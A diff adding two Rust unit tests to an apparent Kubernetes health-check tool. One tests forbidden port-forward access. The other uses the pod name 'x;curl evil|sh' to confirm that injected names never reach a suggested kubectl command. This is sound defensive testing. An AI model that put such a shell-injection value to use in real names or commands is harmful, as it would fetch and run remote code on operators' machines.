@@ -240,6 +240,29 @@ fn a_pod_that_does_not_run_yet_is_not_blamed_for_silence() {
 }
 
 #[test]
+fn who_may_not_ask_is_told_so_and_nobody_is_blamed() {
+    let mut facts = healthy();
+    let forbidden = || Observed::Unavailable("forbidden to ask port 8558: by port-forward: …".to_owned());
+    of(&mut facts, 2).members = forbidden();
+    of(&mut facts, 2).agent = forbidden();
+    assert_eq!(not_passed(&facts, Status::Fail), Vec::<&str>::new());
+    assert_eq!(not_passed(&facts, Status::Skip), ["management-answers", "agent-answers"]);
+}
+
+#[test]
+fn no_name_becomes_a_command() {
+    let mut facts = healthy();
+    let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
+    let key = crate::core::facts::key(&pods[1].metadata);
+    pods[1].metadata.name = Some("x;curl evil|sh".to_owned());
+    let mut live = facts.live.remove(&key).unwrap();
+    live.members = Observed::Unavailable("connection refused".to_owned());
+    facts.live.insert(crate::core::facts::key(&pods[1].metadata), live);
+    let found = run(&facts).into_iter().find(|check| check.status == Status::Fail).unwrap();
+    assert!(found.next.contains("kubectl logs -n shop POD") && !found.next.contains("curl"), "{}", found.next);
+}
+
+#[test]
 fn what_ready_says_is_repeated() {
     let mut facts = healthy();
     of(&mut facts, 1).ready = Observed::Seen(Answer { status: 500, body: "sharding\n".to_owned() });
